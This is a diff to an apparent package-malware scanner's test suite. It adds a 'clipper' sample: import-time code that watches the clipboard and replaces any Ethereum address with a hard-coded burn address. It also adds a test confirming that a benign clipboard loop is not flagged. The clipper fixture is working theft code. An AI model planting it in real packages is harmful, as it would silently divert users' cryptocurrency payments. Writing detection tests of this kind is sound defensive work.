@@ -539,6 +539,26 @@ def stego_image() -> Archive:
     )})  # fmt: skip
 
 
+def clipper() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import re, threading, time",
+        "import pyperclip",
+        "",
+        "ADDR = '0x000000000000000000000000000000000000dEaD'",
+        "",
+        "",
+        "def _watch():",
+        "    while True:",
+        "        t = pyperclip.paste()",
+        "        if re.fullmatch(r'0x[a-fA-F0-9]{40}', t or ''):",
+        "            pyperclip.copy(ADDR)",
+        "        time.sleep(0.5)",
+        "",
+        "",
+        "threading.Thread(target=_watch, daemon=True).start()",
+    )})  # fmt: skip
+
+
 # --- start-up hooks, shells, layers ------------------------------------------------------------
 
 
@@ -921,6 +941,7 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (zipped_keys_upload, "demo-1.0/demo/__init__.py", 9, "PKG002", H),  # was low
     (mnemonic_to_bot, "demo-1.0/demo/wallet.py", 7, "PKG002", H),  # was low
     (stego_image, "demo-1.0/demo/__init__.py", 9, "PKG003", C),  # was PKG007 high only
+    (clipper, "demo-1.0/demo/__init__.py", 8, "PKG006", H),  # was nothing
     (npm_node_e, "package/package.json", 1, "PKG014", C),
     (npm_run_chain, "package/scripts/env.js", 4, "PKG015", C),  # was medium (PKG014)
     (npm_minified, "package/dist/i.min.js", 1, "PKG015", C),
@@ -1189,3 +1210,23 @@ def test_image_bytes_rebuilt_from_a_download_and_saved_are_not_run() -> None:
     )
     found = scan(sd({"demo/__init__.py": lib}))
     assert not [f for f in found if f.code == "PKG003"]
+
+
+def test_clipboard_manager_loop_without_wallet_addresses_is_no_clipper() -> None:
+    lib = lines(
+        "import time",
+        "import pyperclip",
+        "",
+        "history = []",
+        "",
+        "",
+        "def watch():",
+        "    while True:",
+        "        t = pyperclip.paste()",
+        "        if t and t != t.strip():",
+        "            pyperclip.copy(t.strip())",
+        "        history.append(t)",
+        "        time.sleep(1)",
+    )
+    found = scan(sd({"demo/__init__.py": lib}))
+    assert not [f for f in found if f.code == "PKG006"]
